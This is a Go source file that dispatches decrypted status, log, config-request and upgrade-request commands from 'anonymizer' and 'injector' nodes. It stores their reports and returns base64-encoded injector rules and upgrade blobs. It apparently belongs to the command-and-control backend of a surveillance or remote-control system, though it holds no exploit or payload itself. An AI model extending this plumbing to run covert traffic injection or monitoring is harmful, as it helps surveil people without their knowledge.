package controller

import (
	"context"
	"encoding/base64"
	"fmt"
	"strings"
	"unicode"

	"github.com/azera85/rcs-collector/internal/dbiface"
	"github.com/azera85/rcs-collector/internal/registry"
)

// Command is one decrypted inbound instruction.
type Command struct {
	Command string         `json:"command"`
	Params  map[string]any `json:"params,omitempty"`
	Body    string         `json:"body,omitempty"`
}

// Result is one response entry, emitted in the same order as its Command.
type Result struct {
	Command string         `json:"command"`
	Result  map[string]any `json:"result"`
}

// executeCommands interprets a normalized batch of decrypted commands
// against elem, in order, producing one Result per recognized command.
// Unknown commands are silently skipped — they never appear in the output.
func executeCommands(ctx context.Context, db dbiface.DB, elem registry.Element, meta RequestMeta, cmds []Command) ([]Result, error) {
	results := make([]Result, 0, len(cmds))
	for _, cmd := range cmds {
		switch cmd.Command {
		case "STATUS":
			r, err := execStatus(ctx, db, elem, meta, cmd)
			if err != nil {
				return nil, err
			}
			results = append(results, r)
		case "LOG":
			r, err := execLog(ctx, db, elem, cmd)
			if err != nil {
				return nil, err
			}
			results = append(results, r)
		case "CONFIG_REQUEST":
			r, err := execConfigRequest(ctx, db, elem)
			if err != nil {
				return nil, err
			}
			results = append(results, r)
		case "UPGRADE_REQUEST":
			r, err := execUpgradeRequest(ctx, db, elem)
			if err != nil {
				return nil, err
			}
			results = append(results, r)
		}
	}
	return results, nil
}

func execStatus(ctx context.Context, db dbiface.DB, elem registry.Element, meta RequestMeta, cmd Command) (Result, error) {
	status, _ := cmd.Params["status"].(string)
	msg, _ := cmd.Params["msg"].(string)
	version, _ := cmd.Params["version"].(string)
	stats, _ := cmd.Params["stats"].(map[string]any)

	displayName := elem.DisplayName()
	address := meta.XForwardedFor
	if elem.Kind == registry.KindAnonymizer {
		address = elem.Address
	}

	if err := db.UpdateStatus(ctx, displayName, address, status, msg, normalizeStats(stats), string(elem.Kind), version); err != nil {
		return Result{}, fmt.Errorf("update status: %w", err)
	}

	var verErr error
	if elem.Kind == registry.KindAnonymizer {
		verErr = db.UpdateCollectorVersion(ctx, elem.ID, version)
	} else {
		verErr = db.UpdateInjectorVersion(ctx, elem.ID, version)
	}
	if verErr != nil {
		return Result{}, fmt.Errorf("update version: %w", verErr)
	}

	return Result{Command: "STATUS", Result: map[string]any{"status": "OK"}}, nil
}

func execLog(ctx context.Context, db dbiface.DB, elem registry.Element, cmd Command) (Result, error) {
	ts, _ := toInt64(cmd.Params["time"])
	logType, _ := cmd.Params["type"].(string)
	desc, _ := cmd.Params["desc"].(string)

	var err error
	if elem.Kind == registry.KindAnonymizer {
		err = db.CollectorAddLog(ctx, elem.ID, ts, logType, desc)
	} else {
		err = db.InjectorAddLog(ctx, elem.ID, ts, logType, desc)
	}
	if err != nil {
		return Result{}, fmt.Errorf("add log: %w", err)
	}

	return Result{Command: "LOG", Result: map[string]any{"status": "OK"}}, nil
}

func execConfigRequest(ctx context.Context, db dbiface.DB, elem registry.Element) (Result, error) {
	blob, err := db.InjectorConfig(ctx, elem.ID)
	if err != nil {
		return Result{}, fmt.Errorf("injector config: %w", err)
	}
	if len(blob) == 0 {
		return Result{Command: "CONFIG_REQUEST", Result: map[string]any{
			"status": "ERROR",
			"msg":    "No new config",
		}}, nil
	}
	return Result{Command: "CONFIG_REQUEST", Result: map[string]any{
		"status": "OK",
		"msg": map[string]any{
			"type": "rules",
			"body": base64.StdEncoding.EncodeToString(blob),
		},
	}}, nil
}

func execUpgradeRequest(ctx context.Context, db dbiface.DB, elem registry.Element) (Result, error) {
	blob, err := db.InjectorUpgrade(ctx, elem.ID)
	if err != nil {
		return Result{}, fmt.Errorf("injector upgrade: %w", err)
	}
	if len(blob) == 0 {
		return Result{Command: "UPGRADE_REQUEST", Result: map[string]any{
			"status": "ERROR",
			"msg":    "No new upgrade",
		}}, nil
	}
	return Result{Command: "UPGRADE_REQUEST", Result: map[string]any{
		"status": "OK",
		"msg": map[string]any{
			"body": base64.StdEncoding.EncodeToString(blob),
		},
	}}, nil
}

// normalizeStats converts incoming string stat keys — arbitrary case, e.g.
// "CpuUsage" or "cpu-usage" — to the canonical lower_snake form
// DB.UpdateStatus expects. Values pass through unchanged.
func normalizeStats(stats map[string]any) map[string]any {
	if stats == nil {
		return nil
	}
	out := make(map[string]any, len(stats))
	for k, v := range stats {
		out[toSnakeCase(k)] = v
	}
	return out
}

func toSnakeCase(s string) string {
	s = strings.ReplaceAll(s, "-", "_")
	s = strings.ReplaceAll(s, " ", "_")
	var b strings.Builder
	for i, r := range s {
		if unicode.IsUpper(r) {
			if i > 0 && s[i-1] != '_' {
				b.WriteByte('_')
			}
			b.WriteRune(unicode.ToLower(r))
			continue
		}
		b.WriteRune(r)
	}
	return b.String()
}

func toInt64(v any) (int64, bool) {
	switch n := v.(type) {
	case float64:
		return int64(n), true
	case int64:
		return n, true
	case int:
		return int64(n), true
	default:
		return 0, false
	}
}
